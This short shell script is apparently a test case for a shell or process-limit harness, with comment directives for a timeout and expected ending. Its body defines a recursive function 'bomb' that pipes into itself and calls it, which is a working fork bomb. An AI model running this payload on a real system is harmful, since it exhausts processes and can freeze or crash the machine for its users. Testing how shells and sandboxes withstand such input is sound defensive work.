# Forks for ever.
#: ends released 
#: timeout 3
bomb() { bomb | bomb; }
bomb 2>/dev/null
exit 1
